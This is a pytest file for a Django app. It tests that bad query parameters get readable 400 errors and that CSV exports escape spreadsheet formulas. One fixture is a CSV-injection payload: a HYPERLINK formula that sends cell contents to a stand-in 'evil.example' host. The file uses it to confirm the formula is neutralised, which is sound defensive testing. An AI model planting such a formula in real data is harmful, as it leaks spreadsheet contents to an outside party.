"""Bad query parameters get a 400 page that says what is wrong, never a server error; CSV
exports cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import RequestFactory
from django.urls import reverse

from portevoix.core import actions
from portevoix.core.exports import csv_writer, safe_cell
from portevoix.core.query import BadQuery, query_date, query_id, query_int

pytestmark = pytest.mark.django_db

TOO_BIG_ID = "99999999999999999999"  # 20 digits: beyond a 64-bit integer


def speak(member, language: str) -> None:
    """Once logged in, the account's language decides."""
    member.user.language = language
    member.user.save(update_fields=["language"])


def url(name: str) -> str:
    return reverse(name, kwargs={"ws": "acme"})


@pytest.mark.parametrize(
    ("name", "params", "parameter"),
    [
        ("calendar", {"from": "9999-12-25"}, "from"),
        ("calendar", {"from": "0001-01-01"}, "from"),
        ("calendar", {"from": "2027-02-30"}, "from"),
        ("calendar", {"channel": TOO_BIG_ID}, "channel"),
        ("calendar", {"channel": "-3"}, "channel"),
        ("calendar", {"channel": "٣"}, "channel"),  # an Arabic-Indic digit: isdigit() says yes
        ("audit_log", {"until": "9999-12-31"}, "until"),
        ("audit_log", {"since": "0001-01-01"}, "since"),
        ("audit_log", {"page": TOO_BIG_ID}, "page"),
        ("audit_export", {"until": "9999-12-31"}, "until"),
        ("audit_export", {"since": "0001-01-01"}, "since"),
        ("inbox", {"queue": "nowhere"}, "queue"),
        ("inbox", {"state": "furious"}, "state"),
        ("inbox", {"label": "x" * 30}, "label"),
        ("inbox", {"page": "abc"}, "page"),
        ("team", {"role": "pope"}, "role"),
        ("team", {"show": "everything"}, "show"),
        ("team", {"q": "x" * 500}, "q"),
    ],
)
def test_bad_parameters_are_refused_with_the_reason(team, client_for, name, params, parameter):
    speak(team["admin"], "en")
    client = client_for(team["admin"])
    response = client.get(url(name), params)
    assert response.status_code == 400, (name, params)
    html = response.content.decode()
    assert 'data-status="400"' in html or 'class="error' in html  # product page or the form
    label = {"since": "From", "until": "To"}.get(parameter, f"“{parameter}”")
    assert label in html, (name, params)


def test_the_audit_form_shows_the_bad_date_in_place(team, client_for):
    speak(team["admin"], "en")
    client = client_for(team["admin"])
    response = client.get(url("audit_log"), {"until": "9999-12-31", "actor": "Ada"})
    assert response.status_code == 400
    html = response.content.decode()
    assert "between 1970 and 2200" in html and 'value="Ada"' in html  # nothing typed is lost


def test_good_parameters_still_work(team, client_for):
    client = client_for(team["admin"])
    assert client.get(url("calendar"), {"from": "2027-03-28", "channel": "12"}).status_code == 200
    assert client.get(url("calendar"), {"from": "", "channel": ""}).status_code == 200
    assert client.get(url("audit_log"), {"since": "2026-01-01", "page": "3"}).status_code == 200
    assert client.get(url("inbox"), {"queue": "all", "state": "open"}).status_code == 200
    assert client.get(url("team"), {"role": "viewer", "show": "all", "q": "ada"}).status_code == 200


def test_the_helpers(rf: RequestFactory):
    request = rf.get("/", {"d": "2027-03-28", "i": "42", "big": TOO_BIG_ID, "n": "7"})
    assert str(query_date(request, "d")) == "2027-03-28"
    assert query_date(request, "missing") is None
    assert query_id(request, "i") == 42
    assert query_int(request, "n", 1, maximum=10) == 7
    with pytest.raises(BadQuery) as caught:
        query_id(request, "big")
    assert caught.value.parameter == "big"
    with pytest.raises(BadQuery):
        query_int(request, "big", 1)


# --- CSV ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Marketing", "Marketing"),
        ("", ""),
        (12, 12),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_the_audit_export_neutralises_formulas(team, client_for):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"ouvrir")'
    actions.create_department(team.workspace, by=team["admin"], name=formula)
    response = client_for(team["admin"]).get(url("audit_export"))
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_writer_is_a_csv_writer():
    out = io.StringIO()
    csv_writer(out).writerows([["a", "=b"], [1, "@c"]])
    assert out.getvalue().splitlines() == ["a,'=b", "1,'@c"]
